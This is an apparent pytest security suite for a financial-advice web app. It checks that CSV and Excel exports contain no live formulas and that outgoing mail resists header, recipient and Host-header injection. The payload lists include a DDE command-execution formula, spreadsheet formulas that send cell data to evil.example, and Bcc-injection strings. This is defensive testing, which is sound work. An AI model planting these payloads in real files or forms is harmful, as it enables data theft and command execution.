"""Texts that people type, where a spreadsheet or a mail program would take them for orders."""

import csv
import io
import re
from email import message_from_bytes, policy
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tarazu.kit import clock
from tarazu.kit.db import Database
from tarazu.kit.mail import MailSender
from tarazu.kit.settings import Settings
from tests.advice.conftest import AdviceDesk, advice
from tests.imports.files import kite
from tests.people_of import Desk
from tests.routes_of import guarded_routes
from tests.security.figures import tell

__all__ = ["advice"]

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "=cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    '=IMPORTXML("https://evil.example/","//a")',
    "=WEBSERVICE(CONCATENATE(A1,B1))",
    '@IMPORTDATA("https://evil.example/")',
)
NUMBER = re.compile(r"[-+]?\d+(\.\d+)?")
STARTS = ("=", "+", "-", "@", "\t", "\r")

HEADER_TRIES = (
    "Kavya\r\nBcc: evil@evil.example",
    "Kavya\nBcc: evil@evil.example",
    "Kavya\r\n\r\nAnother text",
    "Kavya\u2028Bcc: evil@evil.example",
    "Kavya\x85Bcc: evil@evil.example",
    "Kavya\x0bBcc: evil@evil.example",
    "=?utf-8?q?Kavya=0D=0ABcc:_evil@evil.example?=",
    '"Kavya" <evil@evil.example>, x',
    "Kavya%0d%0aBcc:%20evil@evil.example",
    "Kavya\\r\\nBcc: evil@evil.example",
)
ADDRESS_TRIES = (
    "kavya@home.example\r\nBcc: evil@evil.example",
    "kavya@home.example, evil@evil.example",
    "kavya,evil@evil.example",
    "kavya;evil@evil.example",
    "group:evil@evil.example;",
    "kavya(comment)@evil.example",
    "<evil@evil.example>",
    '"kavya"@evil.example',
    "kavya%0aBcc:evil@evil.example",
    "kavya@[127.0.0.1].example",
)
ALLOWED = {
    "From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "Content-Type",
    "Content-Transfer-Encoding", "Content-Disposition",
}  # fmt: skip
SUBJECTS = re.compile(
    r"(Your Tarazu account|Reset your password|Your one-time code|An account awaits your approval"
    r"|Connect your broker|Your password was changed|Investment advice of [\d/-]+)"
)


def _exports(app: FastAPI) -> list[str]:
    found = {route.path for route in guarded_routes(app) if route.path.endswith("/export")}
    # Those of one piece of work need that work done first.
    return sorted(path for path in found if "{" not in path.replace("{client_id}", ""))


def _plant(desk: AdviceDesk) -> None:
    """Each of the texts wherever a text can be entered that a list shows."""
    at, client_id = desk.desk, desk.client_id
    for number, text in enumerate(FORMULAS):
        new = {"name": text, "email": f"formula{number}@home.example"}
        assert at.post("/clients/add", {"clients": [new]}).status_code == 201
        staff = {"name": text, "email": f"formula{number}@desk.example", "role": "USER"}
        added = at.post("/users/add", {"users": [staff | {"status": "ACTIVE"}]})
        assert added.status_code == 201, added.text
        remark = at.post("/admin/remarks", {"user": client_id, "remark": text})
        assert remark.status_code == 201, remark.text
        edited = {"id": client_id, "name": text, "family": text, "address": text}
        assert at.put("/clients/edit", edited).status_code == 200
        assert at.put("/settings/firm", {"name": text, "analystName": text}).status_code == 200
    fee = {"startingDate": "2026-04-01", "startingValue": 100000, "finalValue": 120000}
    assert at.post(f"/admin/clients/client/{client_id}/fees", fee).status_code == 201
    flow = {"date": "2026-04-02", "amount": 5000, "type": "FUNDS_ADDED"}
    path = f"/admin/clients/client/{client_id}/accounting/transaction"
    assert at.post(path, flow).status_code == 201
    desk.sent(rationale=FORMULAS[0])
    file = kite(("INFY", 5, 1400), *((text, 5, 1400) for text in ("=1+1", "+1+1")))
    at.upload("/admin/clients/import", "=1+1.csv", file, clientId=client_id, dryRun="false")


@pytest.mark.on_both(suite="long")
def test_no_cell_of_an_export_is_a_formula(app: FastAPI, advice: AdviceDesk) -> None:
    _plant(advice)
    cells, told, run = 0, set[str](), []

    for path in _exports(app):
        where = path.removeprefix("/api/v1").replace("{client_id}", advice.client_id)
        text = advice.desk.get(where, format="csv")
        book = advice.desk.get(where, format="xlsx")
        assert (text.status_code, book.status_code) == (200, 200), (path, text.text[:200])
        for row in csv.reader(io.StringIO(text.content.decode("utf-8-sig"))):
            for cell in row:
                cells += 1
                told.update(one for one in FORMULAS if one in cell)
                if cell.startswith(STARTS) and not NUMBER.fullmatch(cell):
                    run.append((path, "csv", cell))
        for page in load_workbook(io.BytesIO(book.content)):
            for line in page.iter_rows():
                for one in line:
                    cells += 1
                    is_text = isinstance(one.value, str)
                    if one.data_type == "f" or (is_text and str(one.value).startswith(STARTS)):
                        run.append((path, "xlsx", str(one.value)))

    what = (
        f"{len(FORMULAS)} formulas in {len(_exports(app))} exports, {cells} cells of CSV and Excel"
    )
    tell("S10", what, f"{len(run)} run", "0")
    assert told == set(FORMULAS), "each of them must have come so far"
    assert len(_exports(app)) > 8
    assert run == []


def test_no_mail_has_a_header_or_a_recipient_that_somebody_typed(
    web: TestClient, admin: Desk, database: Database, settings: Settings
) -> None:
    """In names, in addresses, and in what a caller says of itself."""
    tries, taken = 0, set[str]()
    for number, text in enumerate(HEADER_TRIES):
        email = f"header{number}@home.example"
        people = {"name": text, "email": email, "role": "USER", "status": "ACTIVE"}
        answers = [
            admin.post("/users/add", {"users": [people]}),
            web.post(
                "/api/v1/auth/register",
                json={"name": text, "email": f"x{email}", "password": "six elms 6"},
            ),
            admin.put("/settings/firm", {"name": text}),
        ]
        taken |= {email} if answers[0].status_code == 201 else set()
        tries += len(answers)
    for text in ADDRESS_TRIES:
        people = {"name": "Kavya", "email": text, "role": "USER", "status": "ACTIVE"}
        assert admin.post("/users/add", {"users": [people]}).status_code == 422, text
        for path in ("/auth/forget-password/request", "/auth/otp/request"):
            assert web.post(f"/api/v1{path}", json={"email": text}).status_code == 422, text
        tries += 3
    for email in taken:
        for name in ("Host", "X-Forwarded-Host", "X-Original-Host", "Forwarded"):
            headers = {name: "evil.example"}
            asked = web.post(
                "/api/v1/auth/forget-password/request", json={"email": email}, headers=headers
            )
            assert asked.status_code == (400 if name == "Host" else 200)
            tries += 1
    MailSender("", settings.mail_from, settings.outbox_dir).send_due(database, clock.now())

    mails = [path.read_bytes() for path in Path(settings.outbox_dir).glob("*.eml")]
    injected = [fault for mail in mails for fault in _faults_of(mail)]
    what = f"{tries} tries at headers, recipients and links, {len(mails)} mails written"
    tell("S10", what, f"{len(injected)} injected", "0")
    assert len(mails) > len(taken) > 0
    assert injected == []


def _faults_of(mail: bytes) -> list[str]:
    message = message_from_bytes(mail, policy=policy.default)
    faults = [f"header {name}" for name in set(message.keys()) - ALLOWED]
    to = message["To"].addresses
    if len(to) != 1 or to[0].domain == "evil.example" or to[0].display_name:
        faults.append(f"recipient {message['To']}")
    if not SUBJECTS.fullmatch(str(message["Subject"])):
        faults.append(f"subject {message['Subject']}")
    body = message.get_body(("plain",))
    text = body.get_content() if body else ""
    links = re.findall(r"https?://[^\s/]+", text)
    return faults + [f"link {link}" for link in links if "127.0.0.1" not in link]


@pytest.mark.parametrize("text", ["", "x"])
def test_the_check_itself_finds_what_is_injected(text: str) -> None:
    mail = (
        f"From: a@b.example\r\nTo: kavya@home.example, evil@evil.example\r\nBcc: {text}\r\n"
        "Subject: Buy now\r\n\r\nhttps://evil.example/x\r\n"
    )
    assert len(_faults_of(mail.encode())) == 4
